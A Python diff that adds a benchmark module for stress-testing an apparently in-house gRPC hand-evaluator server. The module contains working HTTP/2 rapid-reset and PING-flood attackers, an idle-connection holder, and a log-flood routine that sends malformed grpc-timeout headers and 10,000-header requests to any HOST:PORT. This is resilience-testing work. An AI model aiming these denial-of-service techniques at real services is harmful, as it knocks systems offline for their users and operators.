@@ -1,0 +1,193 @@
+"""Attackers below the servicer, each meant to run in a process of its own so its CPU is
+not the measuring client's: ``python -m benchmarks.transport_attacks KIND HOST:PORT
+[--seconds 20] [--connections 4]`` with KIND one of
+
+- ``rapid-reset``: each connection opens streams (headers and a whole Evaluate request)
+  and resets each at once (RST_STREAM CANCEL), 100 to a write, as fast as it can;
+- ``ping-flood``: each connection sends PINGs, 100 to a write, as fast as it can;
+- ``idle``: opens ``--connections`` TCP connections that send nothing, holding them for
+  ``--seconds``.
+
+``log_flood`` is the other kind: requests that make gRPC write to stderr (unparsable
+``grpc-timeout``, 10,000 headers, replies left unsent on dropped connections).
+
+An attacker goes on after GOAWAY; a connection the server closes is not reopened. Prints one JSON
+object: frames sent, connections ended by the server (and GOAWAYs seen), and the
+attacker's own CPU seconds, the yardstick for the server's.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import os
+import socket
+import sys
+import threading
+import time
+from dataclasses import dataclass, field
+
+from benchmarks import raw_h2
+from service.client.typed_client import evaluate_request
+
+EVALUATE = "/handeval.v1.HandEvaluator/Evaluate"
+FRAMES_PER_WRITE = 100
+REQUEST = evaluate_request("poker", "Ah Kh Qh Jh Th 2c 3d").SerializeToString()
+
+
+@dataclass
+class Tally:
+    sent: int = 0
+    ended: int = 0
+    goaways: int = 0
+    lock: threading.Lock = field(default_factory=threading.Lock)
+
+
+def _read_until_closed(connection: socket.socket, tally: Tally, closed: threading.Event) -> None:
+    """Read and drop the server's frames (answering its PINGs, as a real client does) until
+    it closes the connection: an attacker does not stop at GOAWAY."""
+    pending = b""
+    try:
+        while not closed.is_set():
+            data = connection.recv(65536)
+            if not data:
+                break
+            frames, pending = raw_h2.read_frames(pending + data)
+            for kind, flags, _stream, payload in frames:
+                if kind == raw_h2.GOAWAY:
+                    with tally.lock:
+                        tally.goaways += 1
+                if kind == raw_h2.PING and not flags & raw_h2.ACK:
+                    connection.sendall(raw_h2.frame(raw_h2.PING, raw_h2.ACK, 0, payload))
+    except OSError:
+        pass
+    finally:
+        if not closed.is_set():
+            with tally.lock:
+                tally.ended += 1
+        closed.set()
+
+
+def _attack(host: str, port: int, kind: str, until: float, tally: Tally) -> None:
+    connection = raw_h2.open_connection(host, port)
+    closed = threading.Event()
+    reader = threading.Thread(target=_read_until_closed, args=(connection, tally, closed))
+    reader.start()
+    block = raw_h2.header_block(raw_h2.request_headers(EVALUATE))
+    stream = 1
+    try:
+        while time.monotonic() < until and not closed.is_set():
+            frames = []
+            for _ in range(FRAMES_PER_WRITE):
+                if kind == "rapid-reset":
+                    frames.append(raw_h2.headers(stream, block)
+                                  + raw_h2.grpc_message(REQUEST, stream)
+                                  + raw_h2.rst_stream(stream))  # fmt: skip
+                    stream += 2
+                else:
+                    frames.append(raw_h2.ping(stream.to_bytes(8, "big")))
+                    stream += 1
+            connection.sendall(b"".join(frames))
+            with tally.lock:
+                tally.sent += FRAMES_PER_WRITE
+    except OSError:
+        pass
+    finally:
+        closed.set()  # before closing: the reader does not count our own close
+        connection.close()
+        reader.join()
+
+
+def _hold_idle(host: str, port: int, count: int, seconds: float, tally: Tally) -> None:
+    held = []
+    for _ in range(count):
+        try:
+            held.append(socket.create_connection((host, port), timeout=10))
+            tally.sent += 1
+        except OSError:
+            tally.ended += 1
+    time.sleep(seconds)
+    for connection in held:
+        connection.close()
+
+
+def _send_and_drop(port: int, frames: bytes, window: int | None = None) -> None:
+    """One connection that sends ``frames`` and goes away without reading the reply
+    (with ``window`` 0 the server cannot even send it before the connection drops)."""
+    settings = raw_h2.settings()
+    if window is not None:
+        setting = (4).to_bytes(2, "big") + window.to_bytes(4, "big")  # INITIAL_WINDOW_SIZE
+        settings = raw_h2.frame(raw_h2.SETTINGS, 0, 0, setting)
+    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
+        connection.sendall(raw_h2.PREFACE + settings + frames)
+        try:
+            connection.settimeout(0.05)
+            connection.recv(65536)
+        except OSError:
+            pass
+
+
+def _evaluate_call(stream: int, extra: list[tuple[str, str]]) -> bytes:
+    block = raw_h2.header_block(raw_h2.request_headers(EVALUATE, extra=extra))
+    return raw_h2.headers(stream, block) + raw_h2.grpc_message(REQUEST, stream)
+
+
+def log_flood(port: int, connections: int) -> None:
+    """What callers did to fill the server's log with lines that are not JSON: one
+    connection each, in turn an unparsable ``grpc-timeout``, an overlong one, 10 Evaluates
+    whose replies cannot be sent before the connection drops, and every 20th 10,000
+    headers."""
+    many = [(f"x-header-{i}", "v") for i in range(10_000)]
+    for index in range(connections):
+        kind = index % 4
+        if kind == 0:
+            _send_and_drop(port, _evaluate_call(1, [("grpc-timeout", "banana")]))
+        elif kind == 1:
+            _send_and_drop(port, _evaluate_call(1, [("grpc-timeout", "9" * 40 + "S")]))
+        elif kind == 2 and index % 20 == 2:
+            _send_and_drop(port, _evaluate_call(1, many))
+        else:
+            calls = b"".join(_evaluate_call(n, []) for n in range(1, 20, 2))
+            _send_and_drop(port, calls, window=0)
+
+
+def run(kind: str, target: str, seconds: float, connections: int) -> dict[str, object]:
+    host, port = target.rsplit(":", 1)
+    tally = Tally()
+    began = os.times()
+    if kind == "idle":
+        _hold_idle(host, int(port), connections, seconds, tally)
+    else:
+        until = time.monotonic() + seconds
+        attackers = [
+            threading.Thread(target=_attack, args=(host, int(port), kind, until, tally))
+            for _ in range(connections)
+        ]
+        for attacker in attackers:
+            attacker.start()
+        for attacker in attackers:
+            attacker.join()
+    ended = os.times()
+    return {
+        "kind": kind,
+        "connections": connections,
+        "frames_sent": tally.sent,
+        "connections_ended_by_server": tally.ended,
+        "goaways": tally.goaways,
+        "attacker_cpu_s": round(ended.user + ended.system - began.user - began.system, 2),
+    }
+
+
+def main(argv: list[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(prog="python -m benchmarks.transport_attacks")
+    parser.add_argument("kind", choices=("rapid-reset", "ping-flood", "idle"))
+    parser.add_argument("target", help="HOST:PORT")
+    parser.add_argument("--seconds", type=float, default=20.0)
+    parser.add_argument("--connections", type=int, default=4)
+    options = parser.parse_args(argv)
+    print(json.dumps(run(options.kind, options.target, options.seconds, options.connections)))
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
